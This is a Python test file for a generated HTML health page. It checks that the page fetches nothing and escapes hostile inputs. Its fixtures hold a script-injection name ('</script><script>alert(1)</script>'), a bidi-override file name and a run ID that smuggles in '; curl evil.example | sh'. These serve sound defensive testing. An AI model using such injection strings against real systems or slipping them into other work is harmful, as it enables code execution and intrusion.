"""The HTML: self-contained, three charts, the table's JSON safe inside its script element."""

from __future__ import annotations

import dataclasses
import json
import re
from html.parser import HTMLParser

from support.health_pages import html_of, many_rows, page_of, pass_entry, run_doc
from support.skill_rows import skill_row

from gitcurator.audit.trail import PENDING
from gitcurator.health.model import PassRecord
from gitcurator.health.page import script_json


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


def _table(html: str) -> dict[str, object]:
    found = re.search(r'<script type="application/json" id="skill-data">(.*?)</script>', html, re.S)
    assert found
    doc = json.loads(found.group(1))
    assert isinstance(doc, dict)
    return doc


def test_the_page_is_self_contained_with_three_charts() -> None:
    html = html_of(page_of(many_rows(20)))
    tags = _tags(html)
    assert sum(1 for t, _ in tags if t == "svg") == 3
    # Nothing fetched; the one link is the icon, inline, so no browser asks for /favicon.ico.
    assert [(t, a) for t, a in tags if t == "link"] == [("link", {"rel": "icon", "href": "data:,"})]
    for tag, attrs in tags:
        if tag != "link":
            assert not (attrs.get("src") or attrs.get("href")), (tag, attrs)
        assert tag not in ("img", "iframe")
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "https://" not in html
    assert "prefers-color-scheme: dark" in html and 'name="viewport"' in html


def test_every_skill_is_in_the_embedded_table() -> None:
    doc = _table(html_of(page_of(many_rows(130))))
    rows = doc["rows"]
    assert isinstance(rows, list) and len(rows) == 130


def test_a_hostile_name_cannot_leave_its_script_or_markup() -> None:
    names = ["</script><script>alert(1)</script>", 'q"uote', "<b>bold</b>&amp;"]
    rows = [skill_row(name=n, path=f"x/{i}", use_count=3) for i, n in enumerate(names)]
    html = html_of(page_of(rows))
    assert "<script>alert(1)" not in html and "<b>bold" not in html
    assert html.count("<script") == 2  # the data and the code, nothing more
    assert [r[0] for r in _table(html)["rows"]] == names  # type: ignore[index,union-attr]


def test_script_json_escapes_what_could_close_the_element() -> None:
    text = str(script_json({"a": "</script>&\u2028"}))
    assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text
    assert json.loads(text) == {"a": "</script>&\u2028"}


def test_an_empty_library_renders() -> None:
    html = html_of(page_of([], passes=[]))
    assert "no skills yet" in html and "No pass yet" in html and "No pass is waiting" in html
    assert _table(html)["rows"] == []


def test_a_folder_name_that_is_not_utf8_or_holds_a_bidi_override_is_shown_escaped() -> None:
    # A folder named with the byte 0xff (init --no-verify commits it) stopped the page with a
    # UnicodeEncodeError (exit 3); U+202E could make a name read backwards.
    names = ["bad\udcffname", "evil\u202etxt.exe", "bell\x07"]
    rows = [skill_row(name=n, path=f"x/{n}", use_count=3) for n in names]
    html = html_of(page_of(rows))
    html.encode("utf-8")  # what the page is written as
    assert "\u202e" not in html and "\x07" not in html
    assert [r[0] for r in _table(html)["rows"]] == [  # type: ignore[index,union-attr]
        "bad\\xffname",
        "evil\\u202etxt.exe",
        "bell\\x07",
    ]
    assert "<title>bad\\xffname</title>" in html  # the heat map's label


def test_with_no_use_in_the_weeks_the_heat_map_claims_none() -> None:
    # Its caption said "every skill used in the last 12 weeks" beside "no uses recorded".
    html = html_of(page_of(many_rows(5), deltas=[]))
    assert "no uses recorded in the last 12 weeks" in html
    assert "every skill used" not in html


def test_the_commands_to_copy_quote_a_hostile_run_id() -> None:
    run = "20261129-090000; curl evil.example | sh"
    entry = pass_entry("20261129-090000", status=PENDING, branch="curator/x")
    entry = dataclasses.replace(entry, run_id=run)
    page = page_of([skill_row()], passes=[PassRecord(entry, run_doc("20261129-090000", {}, {}))])
    html = html_of(page)
    assert "<code>gitcurator merge &#39;20261129-090000; curl evil.example | sh&#39;</code>" in html
    assert "gitcurator review &#39;20261129-090000; curl" in html
